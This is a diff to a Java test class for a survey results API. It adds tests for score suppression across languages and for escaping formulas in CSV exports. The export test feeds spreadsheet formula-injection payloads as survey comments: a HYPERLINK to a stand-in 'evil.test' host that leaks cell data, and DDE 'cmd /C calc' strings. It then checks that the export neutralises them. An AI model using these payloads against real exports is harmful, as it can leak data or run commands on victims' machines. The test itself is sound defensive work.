@@ -23,8 +23,12 @@ class ResultsWebTest extends WebTestSupport {
   int serverPort;
 
   private void answer(String token, Map<String, Object> answers) {
+    answer(token, "en", answers);
+  }
+
+  private void answer(String token, String language, Map<String, Object> answers) {
     Api.Response response = api.post("/api/public/surveys/" + token + "/responses",
-        Map.of("submissionId", UUID.randomUUID().toString(), "language", "en", "answers", answers));
+        Map.of("submissionId", UUID.randomUUID().toString(), "language", language, "answers", answers));
     assertThat(response.status()).as(response.toString()).isEqualTo(201);
   }
 
@@ -82,6 +86,78 @@ class ResultsWebTest extends WebTestSupport {
     assertThat(manager.get("/api/surveys/" + id + "/results?from=2026-02-01&to=2026-01-01").status())
         .isEqualTo(400);
     assertThat(manager.get("/api/surveys/" + id + "/results?from=yesterday").status()).isEqualTo(400);
+  }
+
+  @Test
+  void aSuppressedScoreTakesEverythingThatWouldRevealItAlong() {
+    SignedUp tenant = signUp();
+    Api manager = api.as(member(tenant, "MANAGER"));
+    String id = manager.post("/api/surveys", Map.of("name", "NPS", "template", "NPS")).text("id");
+    String token = manager.post("/api/surveys/" + id + "/publish", null).text("publicToken");
+    for (int score : new int[] {10, 9, 3, 0}) {
+      answer(token, Map.of("nps", score, score >= 7 ? "reason" : "improve", "score " + score));
+    }
+
+    // four answers: no score, and neither the counts per value it follows from nor the comments with their scores
+    JsonNode four = manager.get("/api/surveys/" + id + "/results").body();
+    JsonNode nps = four.path("scores").get(0).path("score");
+    assertThat(nps.path("suppressed").asBoolean()).isTrue();
+    assertThat(nps.path("n").asInt()).isEqualTo(4);
+    JsonNode distribution = four.path("distributions").get(0);
+    assertThat(distribution.path("suppressed").asBoolean()).isTrue();
+    assertThat(distribution.path("counts").size()).isZero();
+    for (JsonNode other : four.path("distributions").values()) {
+      assertThat(other.path("counts").size()).as(other.toString()).isZero();
+    }
+    JsonNode comments = manager.get("/api/surveys/" + id + "/comments").body();
+    assertThat(comments.path("total").asInt()).isZero();
+    assertThat(comments.path("items").size()).isZero();
+    assertThat(manager.get("/api/surveys/" + id + "/results/series?bucket=day").body().get(0).path("points").get(0)
+        .path("score").path("suppressed").asBoolean()).isTrue();
+    assertThat(manager.get("/api/surveys/scores?type=NPS&touchpoint=relationship").body().path("score")
+        .path("suppressed").asBoolean()).isTrue();
+
+    // six answers, one in German: everyone is shown, English alone (everyone minus the German one) is not
+    answer(token, Map.of("nps", 8));
+    answer(token, "de", Map.of("nps", 2, "improve", "Schneller antworten"));
+    assertThat(manager.get("/api/surveys/" + id + "/results").body().path("scores").get(0).path("score")
+        .path("suppressed").asBoolean()).isFalse();
+    JsonNode english = manager.get("/api/surveys/" + id + "/results?language=en").body();
+    assertThat(english.path("responses").asInt()).isEqualTo(5);
+    assertThat(english.path("scores").get(0).path("score").path("suppressed").asBoolean()).isTrue();
+    assertThat(english.path("distributions").get(0).path("counts").size()).isZero();
+    assertThat(manager.get("/api/surveys/" + id + "/comments?language=en").body().path("total").asInt()).isZero();
+    assertThat(manager.get("/api/surveys/scores?type=NPS&touchpoint=relationship&language=en").body()
+        .path("score").path("suppressed").asBoolean()).isTrue();
+  }
+
+  @Test
+  void exportedCellsNeverStartAFormula() throws Exception {
+    SignedUp tenant = signUp();
+    String managerToken = member(tenant, "MANAGER");
+    Api manager = api.as(managerToken);
+    String id = manager.post("/api/surveys", Map.of("name", "CSAT", "template", "CSAT_SUPPORT")).text("id");
+    String token = manager.post("/api/surveys/" + id + "/publish", null).text("publicToken");
+    answer(token, Map.of("csat", 1, "resolved", "yes",
+        "comment", "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")"));
+    answer(token, Map.of("csat", 2, "resolved", "yes", "comment", "@SUM(1+1)*cmd|' /C calc'!A0"));
+    answer(token, Map.of("csat", 3, "resolved", "yes", "comment", "-2+3+cmd|' /C calc'!A0"));
+    answer(token, Map.of("csat", 4, "resolved", "yes", "comment", "+1"));
+    answer(token, Map.of("csat", 5, "resolved", "yes", "comment", "-3"));
+
+    HttpResponse<String> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
+            URI.create("http://127.0.0.1:" + serverPort + "/api/surveys/" + id + "/export.csv"))
+        .header("Authorization", "Bearer " + managerToken)
+        .build(), HttpResponse.BodyHandlers.ofString());
+    assertThat(csv.statusCode()).isEqualTo(200);
+    List<String> lines = csv.body().lines().toList();
+    assertThat(lines).hasSize(6);
+    assertThat(lines.get(1)).endsWith(",1,yes,\"'=HYPERLINK(\"\"http://evil.test/?leak=\"\"&A1,\"\"Click\"\")\"");
+    assertThat(lines.get(2)).endsWith(",2,yes,'@SUM(1+1)*cmd|' /C calc'!A0");
+    assertThat(lines.get(3)).endsWith(",3,yes,'-2+3+cmd|' /C calc'!A0");
+    // plain numbers stay numbers
+    assertThat(lines.get(4)).endsWith(",4,yes,+1");
+    assertThat(lines.get(5)).endsWith(",5,yes,-3");
   }
 
   @Test
